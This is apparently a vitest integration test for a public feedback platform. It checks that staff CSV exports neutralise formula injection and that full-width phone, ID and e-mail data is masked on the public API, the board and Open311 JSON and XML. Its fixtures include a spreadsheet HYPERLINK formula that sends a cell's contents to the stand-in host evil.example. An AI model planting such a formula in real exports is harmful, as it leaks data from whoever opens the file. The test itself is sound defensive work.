/**
 * What the platform writes out, end to end: a staff CSV export holding a nitpicker's
 * `=HYPERLINK(...)` text is neutralised (no cell starts a formula), a report CSV for a
 * district with a Chinese name downloads (200, RFC 6266 `filename*`), and a critique
 * with a full-width phone, ID and e-mail address is masked on the public API, the board
 * (even a board row stored under older masking rules) and Open311 JSON and XML.
 */
import { PutCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { boardFilterKeysOf, boardRowOf } from '../../functions/domain/critiques/board.js';
import { boardRowItem } from '../../functions/store/critiques.js';
import { loadCritique } from '../../functions/usecases/critiques/change.js';
import { seedCatalogue, startTestPlatform, type TestPlatform } from '../support/test-platform.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看办理进度")';
const WIDE_HYPERLINK = '＝HYPERLINK("http://evil.example","点我")';
const PRIVATE_TEXT =
  '窗口让我留电话 １３８－１２３４－５６７８，身份证 ＩＤ１１０１０１１９９００３０７１２３Ｘ，邮箱 ｗａｎｇ＠ｅｘａｍｐｌｅ．ｃｏｍ';
/** Anything of the personal data above, in any width, that must not reach the public. */
const LEAKS = [/１３８/, /13812345678/, /1234.?5678/, /１２３４/, /19900307/, /１９９０/, /ｗａｎｇ/, /wang/];

let t: TestPlatform;
let office: string;
let inspector: string;
let formulaCode: string;
let privateCode: string;
let ua = 0;

async function submit(text: string): Promise<string> {
  const res = await t.call('POST', '/api/v1/critiques', {
    body: { category: 'correction', text, targetType: 'department', targetId: 'market' },
    headers: { 'user-agent': `output-safety-${ua++}`, 'x-forwarded-for': '10.0.0.9' },
  });
  expect(res.status, res.text).toBe(201);
  return res.body.trackingCode as string;
}

async function acceptAndRoute(code: string) {
  const accept = await t.call('POST', `/api/v1/staff/critiques/${code}/accept`, { token: office });
  expect(accept.status, accept.text).toBe(200);
  const route = await t.call('POST', `/api/v1/staff/critiques/${code}/route`, {
    token: office,
    body: { departmentId: 'market' },
  });
  expect(route.status, route.text).toBe(200);
}

beforeAll(async () => {
  t = await startTestPlatform({ now: '2026-11-20T10:00:00+08:00' });
  await seedCatalogue(t);
  [office, inspector] = await Promise.all([t.token('office'), t.token('inspector')]);
  formulaCode = await submit(HYPERLINK);
  await acceptAndRoute(formulaCode);
  await acceptAndRoute(await submit(WIDE_HYPERLINK));
  privateCode = await submit(PRIVATE_TEXT);
  await acceptAndRoute(privateCode);
  await t.drain();
});
afterAll(() => t?.stop());

const csvCells = (text: string) => parse(text, { bom: true, relax_column_count: true }) as string[][];
/** A cell Excel or WPS would run as a formula. */
const FORMULA = /^(?:[\t\r]|[\s\u200b\ufeff]*[=+\-@＝＋－＠\u2212])/;

describe('staff CSV exports', () => {
  it('serve a report for a district with a Chinese name, with an RFC 6266 file name', async () => {
    const res = await t.app.request(
      `/api/v1/staff/reports?scope=district&id=${encodeURIComponent('浦东新区')}&period=2026-11&format=csv`,
      { headers: { authorization: `Bearer ${inspector}` } },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="report-district-_-2026-11.csv"; filename*=UTF-8''report-district-${encodeURIComponent('浦东新区')}-2026-11.csv`,
    );
    const rows = csvCells(await res.text());
    expect(rows).toContainEqual(['报告 Report', '名称 Name', '浦东新区']);
  });

  it('neutralise user text that would run as a formula, and no cell starts one', async () => {
    const res = await t.app.request(
      '/api/v1/staff/reports?scope=department&id=market&period=2026-11&format=csv',
      {
        headers: { authorization: `Bearer ${inspector}` },
      },
    );
    expect(res.status).toBe(200);
    const rows = csvCells(await res.text());
    const formulaRow = rows.find((r) => r[0] === formulaCode);
    expect(formulaRow, 'the critique is in the report').toBeDefined();
    expect(formulaRow!.at(-1)).toBe(`'${HYPERLINK}`);
    expect(rows.flat()).toContain(`'${WIDE_HYPERLINK}`);
    const formulas = rows.flat().filter((cell) => FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(formulas).toEqual([]);
    // The report masks personal numbers for staff too, full-width ones included.
    expect(rows.flat().join('\n')).not.toMatch(/１３８|19900307|１９９０/);
  });
});

describe('a critique with full-width personal data', () => {
  const expectMasked = (text: string) => {
    expect(text).toContain('138****5678');
    expect(text).toContain('110101***********X');
    expect(text).toContain('w***@example.com');
    for (const leak of LEAKS) expect(text).not.toMatch(leak);
  };

  it('is masked on the public API, with the rest of the text as written', async () => {
    const res = await t.call('GET', `/api/v1/critiques/${privateCode}`);
    expect(res.status).toBe(200);
    expectMasked(res.body.text);
    expect(res.body.text).toBe(
      '窗口让我留电话 138****5678，身份证 ＩＤ110101***********X，邮箱 w***@example.com',
    );
    for (const leak of LEAKS) expect(res.text).not.toMatch(leak);
  });

  it('is masked on the board, even in a row stored under older masking rules', async () => {
    const board = async () => {
      const res = await t.call('GET', '/api/v1/critiques?limit=50');
      expect(res.status).toBe(200);
      return res.body.items.find((r: any) => r.trackingCode === privateCode);
    };
    expectMasked((await board()).excerpt);
    // A row as the old masking left it: the full-width text unmasked.
    const c = await loadCritique(t.platform, privateCode);
    for (const filter of boardFilterKeysOf(c)) {
      await t.platform.store.doc.send(
        new PutCommand({
          TableName: t.tableName,
          Item: boardRowItem(filter, { ...boardRowOf(c), excerpt: PRIVATE_TEXT }),
        }),
      );
    }
    expectMasked((await board()).excerpt);
  });

  it('is masked in Open311 JSON and XML', async () => {
    const json = await t.call('GET', `/open311/v2/requests/${privateCode}.json`);
    expect(json.status).toBe(200);
    expectMasked(json.body[0].description);
    for (const leak of LEAKS) expect(json.text).not.toMatch(leak);
    const list = await t.call('GET', '/open311/v2/requests.json');
    expectMasked(list.body.find((r: any) => r.service_request_id === privateCode).description);
    const xml = await t.call('GET', `/open311/v2/requests/${privateCode}.xml`);
    expect(xml.status).toBe(200);
    expect(xml.text).toContain('138****5678');
    for (const leak of LEAKS) expect(xml.text).not.toMatch(leak);
  });
});
